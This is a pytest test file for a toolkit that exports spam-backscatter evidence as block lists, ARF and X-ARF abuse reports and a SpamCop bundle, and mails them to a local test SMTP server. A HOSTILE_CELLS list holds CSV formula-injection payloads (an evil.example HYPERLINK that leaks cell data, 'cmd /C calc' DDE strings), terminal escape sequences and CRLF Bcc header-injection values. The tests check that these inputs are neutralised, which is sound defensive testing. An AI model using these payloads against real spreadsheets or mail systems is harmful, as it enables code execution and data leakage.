"""Exports: block lists as their consumers read them, ARF and X-ARF reports, SpamCop bundle, SMTP."""
from __future__ import annotations

import base64
import hashlib
import ipaddress
import json
import re
import socket
from email.parser import BytesParser
from email.policy import compat32

import polars as pl
import pytest

from toolkit import bouncers, timeline
from toolkit.export import blocklists, gather, reports, smtp
from toolkit.ingest import ingest
from toolkit.sources import read_raw
from toolkit.store import load
from toolkit.synth import generate


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    work = tmp_path_factory.mktemp("export")
    generate(work / "raw", seed=5, days=21, scale=0.4)
    ingest([work / "raw" / "mail"], work / "tables", cache_dir=work / "cache", progress=False)
    return work


@pytest.fixture(scope="module")
def exported(corpus):
    evidence = gather(corpus / "tables", min_evidence=3)
    out = corpus / "out"
    files = blocklists.write(evidence.listed, out / "blocklists", 3)
    files += reports.write(evidence, out, "me@example.org")
    files += reports.spamcop_bundle(evidence, out)
    return evidence, out, files


def lines(path):
    return [l for l in path.read_text().splitlines() if l and not l.startswith("#")]


def test_threshold_is_applied(exported):
    evidence, _, _ = exported
    assert evidence.listed.height > 3
    assert evidence.listed["backscatter"].min() >= 3


def test_plain_and_cidr_lists_parse(exported):
    evidence, out, _ = exported
    ips = [ipaddress.ip_address(l) for l in lines(out / "blocklists" / "ips.txt")]
    assert sorted(map(str, ips)) == sorted(evidence.listed["bouncer_ip"].to_list())
    nets = [ipaddress.ip_network(l) for l in lines(out / "blocklists" / "cidr.txt")]
    assert all(any(ip in net for net in nets) for ip in ips)


def test_rbldnsd_ip4set_follows_its_format(exported):
    # rbldnsd(8), ip4set: "[!]ip4range [:A:TXT]" entries; a line starting with ':' sets the default A and TXT.
    entry = re.compile(r"^!?\d{1,3}(\.\d{1,3}){0,3}(/\d{1,2}|-\d{1,3})?(\s+:.*)?$")
    default = re.compile(r"^:127\.\d{1,3}\.\d{1,3}\.\d{1,3}:.+$")
    body = lines(exported[1] / "blocklists" / "backscatter.ip4set")
    assert default.match(body[0])
    assert body[1:] and all(entry.match(l) for l in body[1:])


def test_postfix_access_table_follows_access5(exported):
    # access(5): "pattern action"; for check_client_access the pattern is an address, the action e.g. REJECT text.
    for line in lines(exported[1] / "blocklists" / "postfix_access"):
        pattern, action, *_ = line.split()
        ipaddress.ip_address(pattern)
        assert action in {"REJECT", "DEFER", "OK", "DUNNO", "DISCARD", "HOLD"} or re.match(r"^[45]\d\d$", action)


def test_arf_reports_parse_back_with_three_parts(exported):
    evidence, out, _ = exported
    arfs = sorted((out / "arf").glob("*.eml"))
    assert len(arfs) == evidence.listed.height
    keys = set(evidence.notices["message_id"].drop_nulls().to_list())
    for path in arfs:
        report = BytesParser(policy=compat32).parsebytes(path.read_bytes())
        assert report.get_content_type() == "multipart/report"
        assert report.get_param("report-type") == "feedback-report"
        parts = report.get_payload()
        assert [p.get_content_type() for p in parts] == ["text/plain", "message/feedback-report", "message/rfc822"]
        fields = dict(line.split(": ", 1) for line in parts[1].get_payload().strip().splitlines()) \
            if isinstance(parts[1].get_payload(), str) else {k: v for p in parts[1].get_payload() for k, v in p.items()}
        assert fields["Feedback-Type"] == "abuse" and fields["Version"] == "1"
        assert fields["Source-IP"] == path.stem.replace("_", ":")
        attached = parts[2].get_payload()[0]
        assert attached["Message-ID"].strip("<>") in keys
        assert report["To"].startswith("abuse@")


def test_xarf_reports_carry_verifiable_evidence(exported):
    _, out, _ = exported
    for path in (out / "xarf").glob("*.json"):
        report = json.loads(path.read_text())
        for field in ("xarf_version", "report_id", "timestamp", "reporter", "sender", "source_identifier",
                      "category", "type"):
            assert field in report
        assert report["xarf_version"].startswith("4.") and report["category"] == "messaging"
        for item in report["evidence"]:
            raw = base64.b64decode(item["payload"])
            assert item["hash"] == "sha256:" + hashlib.sha256(raw).hexdigest()


def test_spamcop_bundle_holds_the_notifications_unmodified(exported):
    evidence, out, _ = exported
    files = {p.stem.rsplit("-", 1)[1]: p for p in (out / "spamcop").glob("*.eml")}
    assert len(files) == evidence.notices.height
    for row in evidence.notices.head(5).iter_rows(named=True):
        assert files[row["msg_key"]].read_bytes() == read_raw(row["source"], row["source_format"], row["location"])


def test_smtp_sending_to_a_local_server(exported):
    from aiosmtpd.controller import Controller

    received = []

    class Handler:
        async def handle_DATA(self, server, session, envelope):
            received.append((envelope.rcpt_tos, envelope.content))
            return "250 OK"

    with socket.socket() as probe:  # a free port on loopback
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    controller = Controller(Handler(), hostname="127.0.0.1", port=port)
    controller.start()
    try:
        files = sorted((exported[1] / "arf").glob("*.eml"))[:2]
        waits = []
        sent = smtp.send(files, "127.0.0.1", port, starttls=False, per_minute=30, sleep=waits.append)
    finally:
        controller.stop()
    assert len(received) == 2 and sent[0].startswith("abuse@")
    assert waits == [2.0]
    assert b"feedback-report" in received[0][1]


def test_ranking_is_stable_and_documented_levels(corpus):
    tables = load(corpus / "tables")
    for level in ("ip", "domain", "org", "product"):
        first = bouncers.rank(tables.messages, tables.originals, tables.bouncers, by=level)
        again = bouncers.rank(tables.messages, tables.originals, tables.bouncers, by=level)
        assert first.equals(again) and first["rank"].to_list() == list(range(1, first.height + 1))
        assert first["score"].is_sorted(descending=True)


def test_run_start_detector_marks_bursts(corpus):
    tables = load(corpus / "tables")
    hourly = timeline.run_starts(tables.messages)
    starts = hourly.filter(pl.col("run_start"))
    assert 1 <= starts.height <= 3 * tables.campaigns.height
    assert timeline.counts(tables.messages, "1d")["notifications"].sum() > 0


# --- safe output, redacted evidence, confirmed contacts -------------------------------------------

HOSTILE_CELLS = [  # (a bouncer's host name as the notification claimed it, the CSV cell written)
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'=1+1"),
    ("\x1b[2J\x1b]0;pwned\x07mx.evil.example", "0;pwnedmx.evil.example"),
    ("mx\u202e.evil.example", "mx.evil.example"),
    ("mx1.bouncer.example", "mx1.bouncer.example"),
]


def hostile_listed(exported, hosts):
    evidence = exported[0]
    base = evidence.listed.head(1)
    return pl.concat([base.with_columns(bouncer_host=pl.lit(h), bouncer_ip=pl.lit(f"192.0.2.{i + 1}"))
                      for i, h in enumerate(hosts)])


def test_csv_cells_are_neutralised(exported, tmp_path):
    import csv

    listed = hostile_listed(exported, [h for h, _ in HOSTILE_CELLS])
    blocklists.write(listed, tmp_path, 3)
    with open(tmp_path / "bouncers.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["bouncer_host"] for r in rows] == [cell for _, cell in HOSTILE_CELLS]
    assert int(rows[0]["backscatter"]) >= 3  # numbers stay numbers


def test_arf_text_parts_carry_no_controls_nor_injected_fields(exported):
    evidence, _, _ = exported
    bouncer = hostile_listed(exported, ["\x1b[31mmx.evil.example\x1b[0m"]).with_columns(
        bouncer_domain=pl.lit("evil.example\r\nBcc: victim@elsewhere.example")).row(0, named=True)
    notices = evidence.notices.head(2).with_columns(arrival=pl.coalesce("received_date", "date"))
    message = reports.arf_report(bouncer, notices, "me@example.org", "abuse@evil.example\r\nBcc: x@y.example",
                                 evidence.owner)
    report = BytesParser(policy=compat32).parsebytes(message.as_bytes())
    summary, feedback = report.get_payload()[0].get_payload(), report.get_payload()[1].get_payload()
    feedback = feedback if isinstance(feedback, str) else "".join(str(p) for p in feedback)
    for text in (summary, feedback):
        assert "\x1b" not in text and "\r" not in text
    assert "Bcc" not in report and report["To"] == "abuse@evil.example Bcc: x@y.example"  # one field, not two
    names = [line.split(":", 1)[0] for line in feedback.splitlines() if line.strip()]
    assert names == ["Feedback-Type", "User-Agent", "Version", "Source-IP", "Arrival-Date", "Incidents",
                     "Reported-Domain"]
    assert "mx.evil.example" in summary


def _decoded_texts(raw: bytes) -> str:
    message = BytesParser(policy=compat32).parsebytes(raw)
    texts = [raw.decode("latin-1")]
    for part in message.walk():
        if not part.is_multipart():
            payload = part.get_payload(decode=True)
            if payload:
                texts.append(payload.decode("latin-1"))
    return "\n".join(texts).lower()


def test_evidence_is_redacted_by_default_and_unmodified_on_request(exported, tmp_path):
    from toolkit.synth import world

    evidence, out, _ = exported
    raws = [_raw for _raw in (read_raw(r["source"], r["source_format"], r["location"])
                              for r in evidence.notices.iter_rows(named=True))]
    assert any(world.OWNER_ADDR in _decoded_texts(r) for r in raws)  # the owner is in the evidence
    for path in (out / "arf").glob("*.eml"):
        assert world.OWNER_ADDR not in _decoded_texts(path.read_bytes()), path.name
    for path in (out / "xarf").glob("*.json"):
        for item in json.loads(path.read_text())["evidence"]:
            assert world.OWNER_ADDR not in _decoded_texts(base64.b64decode(item["payload"]))
            assert "redacted" in item["description"]
    reports.write(evidence, tmp_path, "me@example.org", unredacted=True)
    attached = [base64.b64decode(i["payload"]) for p in (tmp_path / "xarf").glob("*.json")
                for i in json.loads(p.read_text())["evidence"]]
    assert attached and all(a in raws for a in attached)


@pytest.mark.parametrize("argv,needle", [
    (["--contact", "x"], "expected DOMAIN=ADDRESS"),
    (["--contact", "example.net=nobody"], "expected DOMAIN=ADDRESS"),
    (["--send", "--smtp-host", "127.0.0.1", "--reporter", "me@example.org"], "no bouncer has a confirmed contact"),
    (["--contacts", "NOFILE"], "cannot read the contacts file"),
])
def test_export_cli_errors_are_one_line_and_exit_2(corpus, tmp_path, capsys, argv, needle):
    from toolkit import cli

    argv = [str(tmp_path / "none.csv") if a == "NOFILE" else a for a in argv]
    code = cli.main(["export", str(corpus / "tables"), "--out", str(tmp_path / "x"), *argv])
    err = capsys.readouterr().err
    assert code == 2 and needle in err and err.count("\n") == 1 and "Traceback" not in err


def test_send_goes_only_to_confirmed_contacts(corpus, tmp_path, capsys):
    """A first run writes the contacts to review; only the row the user confirms is mailed."""
    import csv

    from aiosmtpd.controller import Controller

    from toolkit import cli

    contacts = tmp_path / "contacts.csv"
    assert cli.main(["export", str(corpus / "tables"), "--out", str(tmp_path / "x"), "--write-contacts",
                     str(contacts)]) == 0
    with open(contacts, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and all(r["confirmed"] == "no" for r in rows)
    chosen = next(r for r in rows if r["contact"])
    chosen.update(confirmed="yes", contact="abuse-desk@registry-contact.example")
    with open(contacts, "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)

    received = []

    class Handler:
        async def handle_DATA(self, server, session, envelope):
            received.append((envelope.rcpt_tos, envelope.content))
            return "250 OK"

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    controller = Controller(Handler(), hostname="127.0.0.1", port=port)
    controller.start()
    try:
        code = cli.main(["export", str(corpus / "tables"), "--out", str(tmp_path / "x"), "--contacts", str(contacts),
                         "--send", "--smtp-host", "127.0.0.1", "--smtp-port", str(port), "--no-starttls",
                         "--reporter", "me@example.org", "--per-minute", "6000"])
    finally:
        controller.stop()
    assert code == 0
    assert received and {r for rcpts, _ in received for r in rcpts} == {"abuse-desk@registry-contact.example"}
    assert len(received) == len(chosen["bouncer_ips"].split())
    assert b"To: abuse-desk@registry-contact.example" in received[0][1]
    out = capsys.readouterr().out
    assert "not sent:" in out
